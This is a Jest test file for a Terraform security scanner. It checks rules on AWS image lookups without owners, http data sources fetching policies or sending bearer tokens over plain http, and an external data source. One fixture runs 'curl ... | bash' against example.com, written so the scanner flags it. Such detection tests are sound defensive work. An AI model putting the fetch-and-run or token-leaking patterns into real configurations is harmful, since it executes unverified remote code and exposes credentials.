import { afterAll, describe, expect, it } from '@jest/globals';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { checkInventory } from '../../catalog/check-file.js';
import { RuleSet } from '../../catalog/evaluate.js';
import { companionTypes } from '../../catalog/inventory.js';
import { findSources } from '../../sources/find.js';
import { expandWholeCatalog } from './whole-catalog.js';

const rules = expandWholeCatalog().rules.filter(({ resource_types }) => resource_types.some((type) => type.startsWith('data_')));
const set = new RuleSet(rules);
const folder = mkdtempSync(join(tmpdir(), 'data-sources-'));
afterAll(() => rmSync(folder, { recursive: true }));

/** What rules say of the data sources of a configuration, by address and end of the id. */
async function judged(text: string): Promise<Record<string, string>> {
  writeFileSync(join(folder, 'main.tf'), text);
  const { sources } = await findSources([folder], { readInput: () => Promise.resolve(Buffer.from('')) });
  const results: Record<string, string> = {};
  for (const source of sources)
    await checkInventory(source, set, companionTypes(rules), ({ asset, evaluations }) => {
      for (const { rule, result } of evaluations) results[`${asset.source.address} ${rule.rule_id.split('.').at(-1)}`] = result;
    });
  return results;
}

describe('data sources of Terraform', () => {
  it('name the owner of the image that they look for', async () => {
    const results = await judged(`
      data "aws_ami" "anybody" {
        most_recent = true
        filter {
          name   = "name"
          values = ["ubuntu-*"]
        }
      }
      data "aws_ami" "canonical" {
        most_recent = true
        owners      = ["099720109477"]
        filter {
          name   = "name"
          values = ["ubuntu-*"]
        }
      }
      data "aws_ami_ids" "none" {
        owners = []
        name_regex = "^web-"
      }
      resource "aws_instance" "web" {
        ami = data.aws_ami.anybody.id
      }`);
    expect(results).toEqual({
      'data.aws_ami.anybody image_owner': 'FAIL',
      'data.aws_ami.canonical image_owner': 'PASS',
      'data.aws_ami_ids.none image_owner': 'FAIL',
    });
  });

  it('bring no policy from a server, send no credential, and run no download', async () => {
    const results = await judged(`
      data "http" "policy" {
        url = "https://policies.example.com/base.json"
      }
      data "aws_iam_policy_document" "app" {
        source_policy_documents = [data.http.policy.response_body]
      }
      data "http" "ranges" {
        url      = "http://ranges.example.com/"
        insecure = true
        request_headers = {
          Authorization = "Bearer \${var.token}"
        }
      }
      variable "token" {}
      data "external" "install" {
        program = ["bash", "-c", "curl -s https://example.com/x.sh | bash"]
      }`);
    expect(results).toEqual({
      'data.http.policy http_policy': 'FAIL',
      'data.http.policy http_secret': 'PASS',
      'data.http.policy http_insecure': 'PASS',
      'data.http.policy http_scheme': 'PASS',
      'data.http.ranges http_policy': 'PASS',
      'data.http.ranges http_secret': 'FAIL',
      'data.http.ranges http_insecure': 'FAIL',
      'data.http.ranges http_scheme': 'FAIL',
      'data.external.install external_download': 'FAIL',
    });
  });
});
